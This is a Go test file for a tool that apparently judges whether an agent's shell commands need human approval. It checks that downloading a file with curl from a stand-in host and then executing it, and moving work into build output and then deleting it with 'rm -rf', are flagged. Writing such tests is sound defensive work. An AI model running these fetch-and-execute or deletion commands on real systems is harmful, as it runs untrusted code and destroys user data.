package session_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"longline/internal/session"
	"longline/internal/tool"
)

// TestLaterAsInOneCall: what is asked about or denied because the same call fetched what it runs is asked about too
// if an earlier call fetched it, whatever the program is.
func TestLaterAsInOneCall(t *testing.T) {
	files := []string{
		"main.go", "lib/util.go", "x_test.go", "X.java", "build.rs", "src/main.rs", "conftest.py", "test_x.py", "setup.py", "noxfile.py", "a.js", "a.test.ts", "vite.config.ts",
		".eslintrc.js", "Makefile", "rules.mk", "CMakeLists.txt", "Dockerfile", "compose.yml", "Rakefile", "a.rb", "build.gradle", "pom.xml", "package.json", "pyproject.toml",
		"a.tf", "run.sh", "justfile", "a.php", "p.awk", "p.jq", "tool",
	}
	tools := []string{
		"go run %s", "go run .", "go test ./...", "go vet ./...", "java %s", "cargo build", "cargo test", "pytest", "pytest %s", "python3 %s", "pip install -e .", "nox", "node %s", "npm test",
		"npx jest", "npx vite build", "npx eslint .", "npx tsc", "make", "make -f %s", "cmake -B build", "docker build .", "docker build -f %s .", "docker compose up -d",
		"docker compose -f %s up -d", "rake", "ruby %s", "gradle test", "mvn test", "terraform plan", "bash %s", "sh < %s", ". ./%s", "source %s", "just", "php %s", "awk -f %s a", "jq -f %s a",
		"cat %s | sh", "chmod +x %s && ./%[1]s", "xargs -a %s sh -c", "env X=1 python3 %s", "cp %s y.py && python3 y.py", "tox", "deno run %s", "bun %s",
	}
	m, differ := newMachine(t), 0
	m.mode = "bypassPermissions"
	for _, file := range files {
		for _, form := range tools {
			run := fmt.Sprintf(form+"%.0s", file, file)
			m.text = nil
			if m.judge(run, true, false).Decision >= tool.Ask {
				continue // anyhow
			}
			fetch := "curl -sLo " + file + " https://example.com/x"
			once := m.judge(fetch+" && "+run, true, false)
			m.text = nil
			m.judge(fetch, false, false)
			v := m.judge(run, true, false)
			if once.Decision >= tool.Ask {
				differ++
			}
			if (once.Decision >= tool.Ask) != (v.Decision >= tool.Ask) {
				t.Errorf("%s && %s: %s by %s; in two calls %s by %s", fetch, run, once.Decision, once.Rule, v.Decision, v.Rule)
			}
		}
	}
	if differ < 500 {
		t.Errorf("only %d forms run what was fetched", differ)
	}
}

// TestMovedThenDeleted: work that one call moves into the output of a build is not deleted there by a later one without a
// question, and nothing else is asked about. The calls run.
func TestMovedThenDeleted(t *testing.T) {
	moves := []string{
		"mv data dist/", "mv data/*.csv dist/", "mv data/one.csv dist/", "mv data/one.csv data/two.csv dist", "mv -t dist data", "mv data dist/kept", "mv data dist/kept.d", "mv data kept.d && mv kept.d dist/", "mv data build", "mv data build && mv build dist/build",
		"ls data | xargs -I{} mv data/{} dist/", `for f in data/*.csv; do mv "$f" dist/; done`, "(cd data && mv one.csv ../dist/)", "d=dist; mv data/one.csv $d/x.csv", "cd data && mv *.csv ../dist",
		"mkdir -p out && mv data out/", "cp -r data dist/", "mv dist/old.js build.js", "mv dist build", "echo x > made.txt && mv made.txt dist/", "mv data renamed", "true",
	}
	between := []string{"true", "ls dist", "mv dist build", "mkdir -p build; mv dist/* build/", "mv dist/data . ; mv dist/*.csv data/", "echo x > dist/more.js"}
	deletes := []string{
		"rm -rf dist", "rm -rf dist build", "rm -rf dist/*", "rm -r ./dist", "rm -rf dist/data", "rm -f dist/one.csv", "rm -f dist/old.js", "find dist -delete", "find dist -name '*.csv' -delete",
		"cd dist && rm -rf data", "rm -rf build", `for d in dist build; do rm -rf "$d"; done`, "ls dist",
	}
	m := newMachine(t)
	m.mode = "bypassPermissions"
	lost, quiet := 0, 0
	sampled := os.Getenv("LONGLINE_SWEEPS") != "all" // so that go test ends in time; make sweeps tries all
	for i, move := range moves {
		for j, then := range between {
			for k, remove := range deletes {
				if then != "true" && (i+j+k)%4 > 0 || sampled && (i+2*j+k)%5 > 0 {
					continue
				}
				took, v := m.inTurn(move, then, remove)
				switch {
				case took && v.Decision < tool.Ask:
					t.Errorf("%s\n%s\n%s: %s, and a file is lost\n%s", move, then, remove, v.Decision, m.text)
				case took:
					lost++
				case v.Decision >= tool.Ask && !mayTake(move):
					t.Errorf("%s\n%s\n%s: %s by %s (%s), and nothing is lost\n%s", move, then, remove, v.Decision, v.Rule, v.Reason, m.text)
				case v.Decision < tool.Ask:
					quiet++
				}
			}
		}
	}
	t.Logf("%d lose something, %d are not asked about", lost, quiet)
	if (lost < 100 || quiet < 200) && !sampled || lost < 20 || quiet < 40 {
		t.Errorf("%d lose something, %d are not asked about", lost, quiet)
	}
}

// mayTake says whether what a call moves may be deleted later.
func mayTake(move string) bool {
	switch move {
	case "cp -r data dist/", "mv dist/old.js build.js", "mv dist build", "echo x > made.txt && mv made.txt dist/", "mv data renamed", "true":
		return false
	}
	return true
}

// inTurn runs calls one after the other in a project of two files of work and one that a build has made. It says whether the last one takes
// one of the two, and how it is judged. A call before it that is asked about does not run.
func (m *machine) inTurn(calls ...string) (took bool, v tool.Verdict) {
	m.root, m.text = m.t.(*testing.T).TempDir(), nil
	for _, name := range []string{"data/one.csv", "data/two.csv", "dist/old.js"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(m.root, name)), 0o700); err != nil {
			m.t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(m.root, name), []byte(name), 0o600); err != nil {
			m.t.Fatal(err)
		}
	}
	before := 0
	for _, call := range calls {
		before = m.works()
		if v = m.judge(call, true, false); v.Decision >= tool.Ask && call != calls[len(calls)-1] {
			continue
		}
		run := exec.Command("bash", "-c", call)
		run.Dir = m.root
		_ = run.Run() // it may fail
	}
	return m.works() < before, v
}

// works counts the texts of work that are left, wherever they are.
func (m *machine) works() int {
	found := map[string]bool{}
	_ = filepath.WalkDir(m.root, func(path string, d os.DirEntry, err error) error {
		if text, err := os.ReadFile(path); err == nil && len(text) > 5 && string(text[:5]) == "data/" {
			found[string(text)] = true
		}
		return err
	})
	return len(found)
}

// TestTooMuchMoved: after more moves than are remembered, directories and patterns are not deleted without a question, and single
// files are.
func TestTooMuchMoved(t *testing.T) {
	m := newMachine(t)
	for i := range 80 {
		m.files[fmt.Sprintf("%s/d%d/f", project, i)] = ""
		m.judge(fmt.Sprintf("mv d%d/f dist/f%d", i, i), false, false)
	}
	if past := session.Parse(m.text).Past(); !past.MovedMore || len(past.Moved) > 64 {
		t.Fatalf("%d moves, more: %t", len(past.Moved), past.MovedMore)
	}
	for script, want := range map[string]tool.Decision{"rm -rf build": tool.Ask, "rm -f build/*.js": tool.Ask, "rm -f build/a.js": tool.Allow, "ls": tool.Allow} {
		if v := m.judge(script, true, false); v.Decision != want {
			t.Errorf("%s: %s by %s", script, v.Decision, v.Rule)
		}
	}
}
